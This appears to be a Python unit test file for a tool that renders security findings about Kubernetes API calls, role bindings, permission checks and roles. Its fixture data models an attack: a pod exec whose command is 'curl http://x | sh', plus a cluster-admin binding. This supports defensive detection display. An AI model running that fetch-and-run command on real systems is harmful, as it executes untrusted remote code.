"""Kubernetes actions: API call, permission check, role binding, role."""

from __future__ import annotations

from app.render.details import actor_sections
from tests.unit.render.details.support import KUBERNETES, REMOTE_IP, finding, section, titles


def test_kubernetes_api_call_and_role_binding() -> None:
    detail = finding(
        {"resourceType": "EKSCluster", "kubernetesDetails": KUBERNETES},
        action={
            "actionType": "KUBERNETES_API_CALL",
            "kubernetesApiCallAction": {
                "requestUri": "/api/v1/namespaces/default/pods/crypto-7d9f8b6c5-x2x9k/exec",
                "verb": "create",
                "resource": "pods",
                "subresource": "exec",
                "namespace": "default",
                "resourceName": "crypto-7d9f8b6c5-x2x9k",
                "sourceIPs": ["198.51.100.23", "203.0.113.99"],
                "userAgent": "kubectl/v1.29.0 (linux/amd64)",
                "remoteIpDetails": REMOTE_IP,
                "statusCode": 101,
                "parameters": '{"command":["sh","-c","curl http://x | sh"]}',
            },
            "kubernetesRoleBindingDetails": {
                "kind": "ClusterRoleBinding",
                "name": "ci-runner-admin",
                "uid": "8e8e8e8e-0000-1111-2222-333333333333",
                "roleRefName": "cluster-admin",
                "roleRefKind": "ClusterRole",
            },
        },
    )
    sections = actor_sections(detail)
    assert titles(sections)[:3] == [
        "Kubernetes API call",
        "Kubernetes role binding",
        "Kubernetes user",
    ]
    call = section(sections, "Kubernetes API call")
    assert call["Verb"] == "create"
    assert call["Request URI"].endswith("/exec")
    assert call["Status code"] == "101"
    assert call["Source IPs"] == "203.0.113.99"  # the remote IP is shown once
    assert call["Resource"] == "pods/exec"
    assert call["Namespace"] == "default"
    assert call["User agent"] == "kubectl/v1.29.0 (linux/amd64)"
    binding = section(sections, "Kubernetes role binding")
    assert binding["Binding"] == "ci-runner-admin"
    assert binding["Role"] == "ClusterRole cluster-admin"


def test_kubernetes_permission_checked_and_role() -> None:
    detail = finding(
        action={
            "actionType": "KUBERNETES_PERMISSION_CHECKED",
            "kubernetesPermissionCheckedDetails": {
                "verb": "create",
                "resource": "clusterrolebindings",
                "namespace": "kube-system",
                "allowed": True,
            },
            "kubernetesRoleDetails": {"kind": "ClusterRole", "name": "escalate", "uid": "u-1"},
        }
    )
    sections = actor_sections(detail)
    check = section(sections, "Kubernetes permission check")
    assert check == {
        "Verb": "create",
        "Resource": "clusterrolebindings",
        "Namespace": "kube-system",
        "Allowed": "yes",
    }
    role = section(sections, "Kubernetes role")
    assert role == {"Role": "escalate", "Kind": "ClusterRole", "UID": "u-1"}


def test_kubernetes_role_details_action_type() -> None:
    detail = finding(
        action={
            "actionType": "KUBERNETES_ROLE_DETAILS",
            "kubernetesRoleDetails": {"kind": "Role", "name": "pod-reader"},
        }
    )
    assert titles(actor_sections(detail))[0] == "Kubernetes role"
